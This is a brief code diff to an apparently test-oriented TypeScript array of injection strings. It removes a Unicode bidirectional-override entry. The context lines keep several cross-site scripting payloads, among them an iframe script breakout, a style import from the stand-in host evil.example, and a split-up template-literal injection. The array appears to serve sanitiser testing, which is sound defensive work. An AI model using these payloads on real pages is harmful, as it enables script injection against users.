@@ -41,7 +41,6 @@ export const ATTACKS: readonly string[] = [
   '</title><iframe srcdoc="<script>parent.attacked=1</script>">',
   '<style>@import"//evil.example/x";</style>',
   ['`$', '{window.attacked=1}`'].join(''),
-  '\u202Eevil\u202C',
 ]
 
 const WEBHOOK = 'hook-of-the-dashboard-tests'
